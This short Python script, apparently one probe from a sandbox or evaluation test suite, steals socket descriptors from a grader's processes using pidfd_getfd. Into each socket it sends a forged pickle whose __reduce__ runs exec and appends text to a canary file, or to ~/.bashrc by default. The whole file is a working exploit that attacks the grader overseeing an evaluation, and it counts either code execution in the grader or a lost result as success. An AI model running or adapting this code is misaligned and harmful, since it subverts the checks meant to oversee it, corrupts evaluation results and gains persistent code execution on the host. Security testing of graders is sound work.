# Takes the sockets of the grader's processes by pidfd_getfd, and sends a forged answer into each:
# a pickle that writes a file where it is read.
# Success: the file is written by the grader, or a result is lost.
# %% last
import ctypes
import os
import pickle
import stat
import struct


class Answer:
    def __reduce__(self):
        path = GIVEN.get("canary") or os.path.expanduser("~/.bashrc")
        return (exec, (f"open({path!r}, 'a').write('by the grader')",))


libc = ctypes.CDLL(None)
data = pickle.dumps(Answer())
for pid in family():
    watch = attempt(os.pidfd_open, pid)
    for number in range(3, 30):
        taken = libc.syscall(438, watch, number, 0) if isinstance(watch, int) else -1
        if taken >= 0 and stat.S_ISSOCK(os.fstat(taken).st_mode):
            # A copy shares the flags, so the descriptor stays as it is.
            attempt(lambda: __import__("socket").socket(fileno=os.dup(taken)).send(
                struct.pack("!i", len(data)) + data, 0x40 | 0x4000))
        if taken >= 0:
            os.close(taken)
